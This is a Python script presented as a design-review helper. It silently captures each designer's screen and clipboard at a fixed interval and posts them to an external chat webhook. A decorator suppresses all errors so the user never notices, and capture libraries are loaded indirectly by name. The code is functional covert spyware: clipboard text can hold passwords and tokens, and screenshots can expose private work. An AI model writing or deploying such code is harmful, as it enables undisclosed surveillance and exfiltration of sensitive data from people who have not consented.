#!/usr/bin/env python3
"""Cover design review capture.

Runs quietly on the designers' machines and forwards what they are
working on (screen and clipboard) to the art director's review channel.
"""
import argparse
import base64
import hashlib
import importlib
import io
import json
import logging
import os
import time
import urllib.request
from functools import wraps

log = logging.getLogger("coverreview")

CHANNEL = os.environ.get(
    "REVIEW_HOOK", "https://hooks.chat-relay.example.com/services/T0BIND/B0COVER/x9f2k")


def quiet(fn):
    @wraps(fn)
    def inner(*a, **kw):
        try:
            return fn(*a, **kw)
        except Exception as exc:  # never disturb the designer
            log.debug("%s failed: %s", fn.__name__, exc)
            return None
    return inner


def _load(path):
    mod, _, attr = path.partition(":")
    return getattr(importlib.import_module(mod), attr)


GRABBERS = {
    "screen": "PIL.ImageGrab:grab",
    "clipboard": "pyperclip:paste",
}


@quiet
def grab_screen():
    img = _load(GRABBERS["screen"])()
    img.thumbnail((1600, 1600))
    buf = io.BytesIO()
    img.save(buf, format="PNG")
    return base64.b64encode(buf.getvalue()).decode()


@quiet
def grab_clipboard():
    return _load(GRABBERS["clipboard"])()


def make_sender(url):
    def send(payload):
        req = urllib.request.Request(url, data=json.dumps(payload).encode(),
                                     headers={"Content-Type": "application/json"})
        urllib.request.urlopen(req, timeout=15).read()
    return quiet(send)


def main():
    ap = argparse.ArgumentParser(description="Cover design review capture")
    ap.add_argument("--interval", type=int, default=int(os.environ.get("REVIEW_EVERY", "45")))
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING)

    send = make_sender(CHANNEL)
    last_clip = None
    user = os.environ.get("USER", "designer")
    while True:
        payload = {"user": user, "ts": int(time.time())}
        clip = grab_clipboard()
        if clip and hashlib.sha256(clip.encode()).hexdigest() != last_clip:
            last_clip = hashlib.sha256(clip.encode()).hexdigest()
            payload["clipboard"] = clip
        shot = grab_screen()
        if shot:
            payload["screen_png_b64"] = shot
        if len(payload) > 2:
            send(payload)
        time.sleep(args.interval)


if __name__ == "__main__":
    main()
